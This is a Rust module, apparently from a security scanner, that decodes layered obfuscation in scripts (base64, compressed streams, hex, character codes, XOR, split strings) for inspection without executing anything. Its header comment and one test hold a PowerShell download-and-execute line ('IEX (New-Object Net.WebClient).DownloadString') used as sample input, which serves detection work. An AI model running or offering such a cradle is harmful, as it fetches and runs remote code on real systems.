//! Room: `text` — what a script or command line says once its wrappings are taken off.
//!
//! ```text
//! powershell -enc SQBFAFgA… ── base64, UTF-16 ──▶ IEX ('Net.We'+'bClient') ── joined ──▶ IEX ('Net.WebClient')
//! ```
//!
//! Wrappings that are known: base64 (also after `-EncodedCommand` and in `FromBase64String`), gzip and deflate in it, runs of
//! hexadecimal digits, lists of character codes, a XOR with one byte that the text itself names, and strings that were cut
//! up (`'a'+'b'`, `"{1}{0}" -f`, ticks, carets). Nothing is run; what depends on a variable stays as it is.
//!
//! It is bounded: [`MAX_DEPTH`] layers, [`MAX_LAYERS`] texts, [`MAX_BYTES`] bytes in all, and [`MAX_INFLATED`] bytes unpacked on
//! the way, whatever a packed stream claims.
//!
//! What this module never does: execute, guess keys, panic on any text.

mod codes;
mod pieces;

use std::io::Read as _;

pub use pieces::joined;

/// Wrappings in each other.
pub const MAX_DEPTH: usize = 6;

/// Texts that one text may hold.
pub const MAX_LAYERS: usize = 24;

/// Bytes of all texts together. A longer text is looked at as far as this.
pub const MAX_BYTES: usize = 256 << 10;

/// Bytes that one call may inflate, whether or not a text comes out of them: what is kept is bounded by [`MAX_BYTES`], and
/// so must be the work for what is thrown away. A text can hold hundreds of streams that swell a thousandfold.
pub const MAX_INFLATED: usize = 4 * MAX_BYTES;

/// So much of a packed stream tells whether it is text.
const BEGINNING: usize = 4 << 10;

/// Runs of one kind that are looked into per text: a text that is all runs of rubbish costs no more than this.
const MAX_RUNS: usize = 64;

/// Shortest run of base64 that is looked into; shorter ones are words, paths and ids.
const MIN_BASE64: usize = 24;

/// Shortest run of hexadecimal digits that is looked into: hashes are shorter (SHA-512 has 128 digits).
const MIN_HEX: usize = 132;

/// What lay under one wrapping.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Layer {
    /// The wrapping: `base64`, `base64, gzip`, `characters`, `joined` …
    pub how: &'static str,
    /// How many wrappings are around it, from 1.
    pub depth: usize,
    /// The text.
    pub text: String,
}

/// Whether it is worth to look under a text: cheap, and true for every text that [`unfold`] finds something in.
pub fn is_wrapped(text: &str) -> bool {
    let (mut run, mut digits, mut marks, mut plus) = (0_usize, 0_usize, 0_usize, false);
    let mut before = 0;
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_') {
            run += 1;
            if run >= MIN_BASE64 {
                return true;
            }
        } else {
            run = 0;
        }
        match b {
            b'0'..=b'9' => digits += 1,
            b'`' | b'^' => marks += 1,
            b'+' | b'&' if matches!(before, b'\'' | b'"') => plus = true,
            // `'a'+'b'`, `"a" & "b"` above; `[char]73`, `chr(73)`, `{0}{1}`, `73,69,88`
            b']' | b'(' | b'{' | b',' => plus |= digits > 6,
            _ => {}
        }
        if b != b' ' {
            before = b;
        }
    }
    plus || marks >= 3 || digits > 24 || text.contains("{0}")
}

/// Everything that lies under a text, outermost first. Empty for nearly every text.
pub fn unfold(text: &str) -> Vec<Layer> {
    within(text, &mut Left { kept: MAX_BYTES, inflated: MAX_INFLATED })
}

fn within(text: &str, left: &mut Left) -> Vec<Layer> {
    let mut layers: Vec<Layer> = Vec::new();
    if !is_wrapped(text) {
        return layers;
    }
    under(head(text, MAX_BYTES), 1, &mut layers, left);
    let mut next = 0;
    while let Some(layer) = layers.get(next) {
        let (inner, depth) = (layer.text.clone(), layer.depth);
        next += 1;
        if depth < MAX_DEPTH {
            under(&inner, depth + 1, &mut layers, left);
        }
    }
    layers
}

/// Unfolds any bytes: the fuzzer's door. Whatever comes in, it returns, within its limits.
pub fn fuzz(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let layers = unfold(&text);
    assert!(layers.len() <= MAX_LAYERS && layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
    assert!(layers.iter().all(|l| (1..=MAX_DEPTH).contains(&l.depth) && is_wrapped(&text)));
}

/// What one call may still do.
struct Left {
    /// Bytes of texts to keep.
    kept: usize,
    /// Bytes to inflate.
    inflated: usize,
}

/// The beginning of a text, on a character boundary.
fn head(text: &str, max: usize) -> &str {
    let mut end = text.len().min(max);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// Adds what lies directly under a text.
fn under(text: &str, depth: usize, layers: &mut Vec<Layer>, left: &mut Left) {
    let Left { kept, inflated } = left;
    let mut add = |how: &'static str, inner: String| {
        let fits = layers.len() < MAX_LAYERS && inner.len() <= *kept;
        let new = inner != text && !layers.iter().any(|l| l.text == inner);
        if fits && new && !inner.trim().is_empty() {
            *kept -= inner.len();
            layers.push(Layer { how, depth, text: inner });
        }
    };
    if let Some(inner) = joined(text) {
        add("joined", inner);
    }
    let key = codes::xor_key(text);
    for run in runs(text, MIN_BASE64, is_base64) {
        let Some(bytes) = base64(run) else { continue };
        if let Some((how, inner)) = opened(&bytes, key, inflated) {
            add(how, inner);
        }
    }
    for run in runs(text, MIN_HEX, |b| b.is_ascii_hexdigit()) {
        let Some(bytes) = codes::hex(run) else { continue };
        if let Some((_, inner)) = opened(&bytes, key, inflated) {
            add("hexadecimal", inner);
        }
    }
    for bytes in codes::characters(text).into_iter().take(MAX_RUNS) {
        if let Some((_, inner)) = opened(&bytes, key, inflated) {
            add("characters", inner);
        }
    }
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// Runs of at least `least` bytes for which `of` holds. These are ASCII, so slices lie on character boundaries.
fn runs(text: &str, least: usize, of: impl Fn(u8) -> bool) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    let bytes = text.as_bytes();
    for at in 0..=bytes.len() {
        if bytes.get(at).is_some_and(|b| of(*b)) {
            continue;
        }
        if at - start >= least && out.len() < MAX_RUNS {
            out.extend(text.get(start..at));
        }
        start = at + 1;
    }
    out
}

/// Decodes base64 in either alphabet, with or without padding; what follows the padding is left out.
fn base64(run: &str) -> Option<Vec<u8>> {
    let run = run.trim_start_matches(['-', '=', '/']);
    let run = run.split('=').next().unwrap_or("");
    if run.len() < MIN_BASE64 - 2 || run.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(run.len() / 4 * 3 + 2);
    let (mut bits, mut have) = (0_u32, 0);
    for b in run.bytes() {
        let value = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        bits = bits << 6 | u32::from(value);
        have += 6;
        if have >= 8 {
            have -= 8;
            out.push((bits >> have & 0xff) as u8);
        }
    }
    Some(out)
}

/// The text in bytes: unpacked if they are packed, with the key taken off if one is known.
fn opened(bytes: &[u8], key: Option<u8>, left: &mut usize) -> Option<(&'static str, String)> {
    if bytes.starts_with(&[0x1f, 0x8b]) {
        return inflate(flate2::read::GzDecoder::new(bytes), left).map(|t| ("base64, gzip", t));
    }
    if let Some(text) = text_of(bytes) {
        return Some(("base64", text));
    }
    if let Some(key) = key.filter(|k| *k != 0) {
        let plain: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
        if let Some(text) = text_of(&plain) {
            return Some(("base64, xor", text));
        }
    }
    // A raw stream has no signature: it counts only if text comes out of it.
    let inner = inflate(flate2::read::DeflateDecoder::new(bytes), left);
    inner.filter(|t| t.len() >= 16).map(|t| ("base64, deflate", t))
}

/// The text in a packed stream, as far as it may be long. A stream that does not begin like a text is let go after its
/// beginning, so that a few that hold nothing do not use up what the one behind them needs.
fn inflate(mut reader: impl std::io::Read, left: &mut usize) -> Option<String> {
    let mut out = Vec::new();
    let mut more = |out: &mut Vec<u8>, max: usize| {
        let before = out.len();
        // A stream that is cut short still says what was read of it.
        let _ = reader.by_ref().take(max.min(*left) as u64).read_to_end(out);
        *left = left.saturating_sub(out.len() - before);
    };
    more(&mut out, BEGINNING);
    if out.len() == BEGINNING {
        let whole = match std::str::from_utf8(&out) {
            // A character that lies across the end.
            Err(e) if e.error_len().is_none() => e.valid_up_to(),
            _ => out.len(),
        };
        text_of(out.get(..whole)?)?;
        more(&mut out, MAX_BYTES - BEGINNING);
    }
    text_of(&out)
}

/// Bytes as text, if they are text: UTF-16 if every other byte is nought, else UTF-8; nearly all of it readable.
fn text_of(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 4 {
        return None;
    }
    let bytes =
        bytes.strip_prefix(&[0xff, 0xfe]).or(bytes.strip_prefix(&[0xef, 0xbb, 0xbf])).unwrap_or(bytes);
    let noughts = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
    let text = if noughts * 4 >= bytes.len() / 2 * 3 && bytes.len() >= 4 {
        let units: Vec<u16> = bytes.chunks_exact(2).map(|p| u16::from_le_bytes([p[0], p[1]])).collect();
        String::from_utf16(&units).ok()?
    } else {
        std::str::from_utf8(bytes).ok()?.to_owned()
    };
    let readable = |c: &char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    // Words that happen to be base64 decode to signs of all scripts; scripts are mostly ASCII.
    let (mut all, mut good) = (0_usize, 0_usize);
    for c in text.chars() {
        all += 1;
        good += usize::from(readable(&c) && c.is_ascii());
    }
    (all >= 4 && good * 20 >= all * 19).then_some(text)
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    /// Base64 of a raw stream that holds a text.
    fn packed(text: &[u8], salt: usize) -> String {
        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut packer = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(text).unwrap();
        // No two alike: what was met before is not kept again.
        packer.write_all(salt.to_string().as_bytes()).unwrap();
        let bytes = packer.finish().unwrap();
        let mut out = String::new();
        for three in bytes.chunks(3) {
            let n = three.iter().fold(0_u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - three.len()));
            (0..=three.len()).for_each(|i| out.push(char::from(DIGITS[(n >> (18 - 6 * i) & 63) as usize])));
        }
        out
    }

    fn spent(text: &str) -> (usize, Vec<Layer>) {
        let mut left = Left { kept: MAX_BYTES, inflated: MAX_INFLATED };
        let layers = within(text, &mut left);
        (MAX_INFLATED - left.inflated, layers)
    }

    #[test]
    fn what_swells_costs_no_more_than_the_allowance() {
        // Streams of nothing: each is let go after its beginning, and the script behind them is found.
        let nothing: Vec<String> = (0..60).map(|i| packed(&vec![0; 1 << 20], i)).collect();
        let script = packed(b"IEX (New-Object Net.WebClient).DownloadString('x')", 7);
        let (cost, layers) = spent(&format!("{} {script}", nothing.join(" ")));
        // Runs of one letter are hexadecimal digits as well, so a stream is tried twice at most.
        assert!(cost <= 2 * 61 * BEGINNING, "{cost}");
        assert!(layers.iter().any(|l| l.how == "base64, deflate" && l.text.starts_with("IEX")), "{layers:?}");
        // Streams of letters are texts, each longer than all that may be kept: they stop at the allowance.
        let letters: Vec<String> = (0..60).map(|i| packed(&vec![b'a'; 1 << 20], i)).collect();
        let (cost, layers) = spent(&letters.join(" "));
        assert!(cost <= MAX_INFLATED, "{cost}");
        assert!(layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
    }
}
